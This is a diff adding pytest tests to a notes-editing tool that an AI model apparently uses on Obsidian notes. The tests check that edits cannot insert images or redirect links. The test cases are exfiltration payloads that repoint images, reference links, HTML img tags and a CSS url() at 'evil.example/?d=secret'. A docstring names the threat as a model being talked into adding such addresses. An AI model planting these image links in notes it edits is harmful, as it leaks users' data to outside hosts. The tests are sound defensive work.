@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from memory.errors import EditRefused
 from memory.notes.markdown import block_id, headings, inline_fields, lines
@@ -161,3 +162,51 @@ def test_a_hidden_line_is_not_found() -> None:
 def test_a_hidden_line_does_not_count_as_a_second_place() -> None:
     text = "- tea\n- tea #sam/sensitive\n"
     assert rewrite(text, "tea", "mate", hidden=withheld(text)) == "- mate\n- tea #sam/sensitive\n"
+
+
+EVIL = "https://evil.example/?d=secret"
+
+
+@pytest.mark.parametrize(
+    ("note", "old", "new"),
+    [
+        ("![my map](https://a.example/m.png)", "map](https://a.example/m.png)", f"map]({EVIL})"),
+        ("![m](https://a.example/m.png)", "https://a.example/m.png", EVIL),
+        ("![m](https://a.example/m.png)", "a.example", "secret.evil.example"),
+        ("![m][r] x\n\n[r]: https://a.example/m.png", "https://a.example/m.png", EVIL),
+        ("> [r]: <https://a.example/m.png>\n![r]", "a.example/m.png", "evil.example/?d=x"),
+        ("see [m](https://a.example) x", "see", "see!"),
+        ("see[m](https://a.example) x", "see", "see!"),
+        ('<img src="https://a.example/m.png">', "a.example/m.png", "evil.example/?d=secret"),
+        ('<p style="background: url(https://a.example)">', "a.example", "evil.example"),
+        ("see [the map] x", "map] x", f"map]({EVIL})"),
+    ],
+)
+def test_no_edit_makes_an_image_or_changes_where_one_leads(note: str, old: str, new: str) -> None:
+    """Obsidian would fetch the address, and with it what the model was talked into adding."""
+    page = f"# A\n\n{note}\n"
+    try:
+        after = rewrite(page, old, new)
+    except EditRefused as refused:
+        assert "only the owner" in str(refused)
+    else:
+        assert addresses(after) <= addresses(page)
+
+
+def addresses(page: str) -> set[tuple[str, str]]:
+    """What leads anywhere in a note, by a parser of its own."""
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(page)
+    every = [inner for each in tokens for inner in (each, *(each.children or ()))]
+    return {
+        (t.type, str(t.attrGet("src") or t.attrGet("href") or t.content))
+        for t in every
+        if t.type in ("image", "link_open", "html_inline", "html_block")
+    }
+
+
+def test_what_leads_somewhere_may_be_moved_and_taken_out() -> None:
+    page = "# A\n\n- ![m](https://a.example/m.png) and [x](https://b.example)\n- tea\n"
+    assert rewrite(page, "and [x](https://b.example)", f"or {EVIL}").endswith(
+        f"m.png) or {EVIL}\n- tea\n"
+    )
+    assert rewrite(page, "- tea", "").count("example") == 2
